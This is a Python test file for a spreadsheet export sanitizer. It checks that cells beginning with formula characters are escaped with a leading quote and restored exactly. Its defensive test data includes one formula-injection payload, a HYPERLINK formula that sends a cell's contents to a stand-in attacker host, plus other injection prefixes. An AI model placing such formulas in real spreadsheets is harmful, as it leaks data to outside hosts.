"""Cells of tables for spreadsheets: no formula leaves, and every text comes back (hostile input H18)."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connector_defs.domain.cells import as_written, harmless

# H18: what a clerk, a supplier or an attacker may have written -> the cell that goes out.
CELLS = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://evil.test?"&A1,"ok")', '\'=HYPERLINK("http://evil.test?"&A1,"ok")'),
    ("+44 161 496 0000", "'+44 161 496 0000"),
    ("-100", "'-100"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("＝1+1", "'＝1+1"),
    ("'=1+1", "''=1+1"),
    ("''-", "'''-"),
    ("'quoted'", "'quoted'"),
    ("'", "'"),
    ("00-6000", "00-6000"),
    ("0100", "0100"),
    ("1E5", "1E5"),
    ("a=b", "a=b"),
    # A cell of its own, where the semicolon separates cells.
    ("a;=1+1", "a;'=1+1"),
    ("=a;;-b;c", "'=a;;'-b;c"),
    ('a;"=1+1;b', "a;'\"=1+1;b"),
    ('"=1', "'\"=1"),
    ("a;'b", "a;'b"),
    ("#N/A", "#N/A"),
    ("#REF!", "#REF!"),
    # Some programs drop blanks, seen or unseen, before they look.
    (" =1", "' =1"),
    ("\u00a0\u200b=1", "'\u00a0\u200b=1"),
    ("\ufeff@SUM(A1)", "'\ufeff@SUM(A1)"),
    ("' =1", "'' =1"),
    ("＋1", "'＋1"),
    ("－1", "'－1"),
    ("＠x", "'＠x"),
    (" plain", " plain"),
    ("", ""),
]


@pytest.mark.parametrize(("text", "cell"), CELLS)
def test_h18_a_cell_that_begins_like_a_formula_goes_out_harmless_and_comes_back(text: str, cell: str) -> None:
    assert harmless(text) == cell
    assert as_written(cell) == text


@given(st.text(alphabet=";\"'=+-@\t\r\n\u200b\ufeff ax0", max_size=6))
def test_whatever_was_written_comes_back(text: str) -> None:
    assert not harmless(text).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert as_written(harmless(text)) == text


@pytest.mark.parametrize("cell", ["=1+1", "-100", "'quoted'", "'", "plain", "a;-b"])
def test_a_cell_that_a_person_wrote_without_the_mark_stays_as_it_is(cell: str) -> None:
    assert as_written(cell) == cell
